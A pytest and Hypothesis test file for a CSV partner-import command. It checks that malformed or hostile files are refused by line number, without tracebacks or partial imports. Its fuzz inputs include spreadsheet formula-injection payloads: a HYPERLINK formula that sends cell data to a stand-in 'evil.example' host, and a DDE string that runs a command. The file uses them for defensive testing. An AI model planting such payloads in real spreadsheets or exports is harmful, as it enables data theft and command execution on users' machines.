"""Hostile partner CSVs through `ecosync partners import`: a file is imported whole, or refused
with one clear message naming each bad line, and a refused file changes nothing. Never a
traceback."""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from schema.models import PartnerAccount
from sync.cli import cli

PARTNER = "acme"
HEADER = ["external_id", "name", "domain", "population", "owner_name", "owner_email"]
POPULATION_SPELLINGS = ["customer", "Customer", "CUSTOMER", "open_opportunity", "Open Opp",
                        "opportunity", "prospect", "Prospect", "lead"]
# Text a spreadsheet would run, and text that breaks naive CSV handling.
HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)", "-2+3",
                "@cmd", "=cmd|' /C calc'!A0", 'Quote "inside", comma', "line\nbreak",
                "crlf\r\nbreak", "Zoë & Müller GmbH", "東京 株式会社", "tab\there", "  padded  "]


@dataclass
class Row:
    cells: list[str]
    bad: bool  # the importer must refuse the file because of this row


def config_file(tmp_path: Path, engine: Engine) -> Path:
    path = tmp_path / "ecosync.toml"
    path.write_text(
        f'[warehouse]\nurl = "{engine.url.render_as_string(hide_password=False)}"\n\n'
        f'[[partners]]\nid = "{PARTNER}"\nname = "Acme Cloud"\nkind = "technology"\n'
        f'source = "manual"\n')
    return path


def invoke(config: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--config", str(config), "--log-format", "json", *args],
                              catch_exceptions=True)


def snapshot(engine: Engine) -> list[tuple[str | None, str | None, str | None, str]]:
    with Session(engine) as s:
        return sorted(
            (r.external_id, r.name, r.domain, r.population)
            for r in s.scalars(select(PartnerAccount)
                               .where(PartnerAccount.partner_id == PARTNER)))


def no_traceback(result: Result) -> None:
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        repr(result.exception))


names = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1,
            max_size=40),
)


@st.composite
def good_row(draw: st.DrawFn, n: int) -> Row:
    name = draw(names)
    domain = f"co{n}-{draw(st.sampled_from(['acme', 'xn--mnchen-3ya', 'shop']))}." + draw(
        st.sampled_from(["com", "co.uk", "de", "io"]))
    email = draw(st.sampled_from(["", f"rep{n}@acme.example.com"]))
    return Row([f"A-{n}", name, domain, draw(st.sampled_from(POPULATION_SPELLINGS)),
                draw(st.sampled_from(["", "Dana Rep", "=Owner()"])), email], bad=False)


@st.composite
def bad_row(draw: st.DrawFn, n: int) -> Row:
    base = draw(good_row(n)).cells
    kind = draw(st.sampled_from(["ragged_short", "ragged_long", "population", "long_cell",
                                 "duplicate_id", "bad_email", "nothing_to_match"]))
    if kind == "ragged_short":
        cells = base[:-2]
    elif kind == "ragged_long":
        cells = [*base, "extra"]
    elif kind == "population":
        cells = [*base[:3], "partner-ish", *base[4:]]
    elif kind == "long_cell":
        cells = [base[0], "x" * 1500, *base[2:]]
    elif kind == "duplicate_id":
        cells = ["A-0", *base[1:]]
    elif kind == "bad_email":
        cells = [*base[:5], "not an email"]
    else:
        cells = [base[0], "", "gmail.com", *base[3:]]
    return Row(cells, bad=True)


def _quote(cell: str) -> str:
    if any(c in cell for c in ',"\r\n') or cell != cell.strip():
        return '"' + cell.replace('"', '""') + '"'
    return cell


def render(rows: list[Row], newline: str) -> tuple[str, list[int]]:
    """CSV text and the line each record starts on."""
    lines = [",".join(HEADER)]
    starts = []
    line_no = 2
    for row in rows:
        text = ",".join(_quote(c) for c in row.cells)
        starts.append(line_no)
        lines.append(text)
        line_no += 1 + len(re.findall(r"\r\n|\r|\n", text))
    return newline.join(lines) + newline, starts


@st.composite
def csv_files(draw: st.DrawFn) -> tuple[list[Row], str, str]:
    count = draw(st.integers(1, 8))
    rows = [draw(good_row(0))]
    for n in range(1, count):
        rows.append(draw(st.one_of(good_row(n), bad_row(n)) if draw(st.booleans())
                         else good_row(n)))
    return rows, draw(st.sampled_from(["\n", "\r\n"])), draw(
        st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))


@pytest.fixture
def setup(tmp_path: Path, warehouse: Engine) -> tuple[Path, Engine, list[tuple[object, ...]]]:
    config = config_file(tmp_path, warehouse)
    first = tmp_path / "first.csv"
    first.write_text("external_id,name,domain,population\nB-1,Before Corp,before.com,customer\n")
    result = invoke(config, "partners", "import", PARTNER, str(first))
    assert result.exit_code == 0, result.output
    return config, warehouse, list(snapshot(warehouse))


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=csv_files())
def test_a_partner_file_is_imported_whole_or_refused_naming_its_lines(
    setup: tuple[Path, Engine, list[tuple[object, ...]]], tmp_path: Path,
    data: tuple[list[Row], str, str],
) -> None:
    config, engine, before = setup
    rows, newline, encoding = data
    text, starts = render(rows, newline)
    try:
        raw = text.encode(encoding)
    except UnicodeEncodeError:
        raw = text.encode("utf-8")
        encoding = "utf-8"
    path = tmp_path / "partner.csv"
    path.write_bytes(raw)
    # UTF-8 with or without BOM needs no flag; the others are named, as the docs say.
    flag = [] if encoding.startswith("utf-8") else ["--encoding", encoding]
    result = invoke(config, "partners", "import", PARTNER, str(path), "--force", *flag)
    no_traceback(result)
    bad_lines = {start for row, start in zip(rows, starts, strict=True) if row.bad}
    event(f"{'refused' if bad_lines else 'imported'} {encoding}")
    if not bad_lines:
        assert result.exit_code == 0, result.output
        imported = snapshot(engine)
        assert sorted(str(r[0]) for r in imported) == sorted(r.cells[0] for r in rows)
        # Restore the starting snapshot for the next example.
        restore = tmp_path / "restore.csv"
        restore.write_text("external_id,name,domain,population\n"
                           "B-1,Before Corp,before.com,customer\n")
        assert invoke(config, "partners", "import", PARTNER, str(restore),
                      "--force").exit_code == 0
    else:
        assert result.exit_code != 0
        named = {int(n) for n in re.findall(r"line (\d+)", result.output)}
        assert bad_lines <= named, (bad_lines, result.output)
        assert snapshot(engine) == before, "a refused file changed the snapshot"


def test_a_file_in_the_wrong_encoding_is_refused_naming_the_line(
    setup: tuple[Path, Engine, list[tuple[object, ...]]], tmp_path: Path,
) -> None:
    config, engine, before = setup
    path = tmp_path / "cp1252.csv"
    path.write_bytes("external_id,name,domain,population\nA-1,Ok,ok.com,customer\n"
                     "A-2,Caf\u00e9 Cr\u00e8me,cafe.com,customer\n".encode("cp1252"))
    result = invoke(config, "partners", "import", PARTNER, str(path))
    no_traceback(result)
    assert result.exit_code != 0
    assert "line 3" in result.output and "--encoding" in result.output
    assert snapshot(engine) == before


def test_a_ten_megabyte_cell_is_refused_by_line_without_loading_a_half_import(
    setup: tuple[Path, Engine, list[tuple[object, ...]]], tmp_path: Path,
) -> None:
    config, engine, before = setup
    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8") as fh:
        fh.write("external_id,name,domain,population\nA-1,Ok,ok.com,customer\n")
        fh.write('A-2,"' + "x" * 10_000_000 + '",big.com,customer\n')
        fh.write("A-3,Fine,fine.com,prospect\n")
    result = invoke(config, "partners", "import", PARTNER, str(path))
    no_traceback(result)
    assert result.exit_code != 0
    assert "line 3" in result.output
    assert len(result.output) < 5_000, "the error must not echo the cell"
    assert snapshot(engine) == before


@pytest.mark.parametrize("content", [
    b"", b"\xef\xbb\xbf", b"\n\n\n", b"name\n", b"population\n",
    b'name,population\n"unclosed,customer\n', b"\x00\x01\x02binary\xff\xfe",
    "external_id,name,domain,population\n".encode("utf-16-le"),
])
def test_degenerate_files_get_one_clear_error(
    setup: tuple[Path, Engine, list[tuple[object, ...]]], tmp_path: Path, content: bytes,
) -> None:
    config, engine, before = setup
    path = tmp_path / "degenerate.csv"
    path.write_bytes(content)
    result = invoke(config, "partners", "import", PARTNER, str(path))
    no_traceback(result)
    assert result.exit_code != 0
    assert str(path) in result.output
    assert snapshot(engine) == before
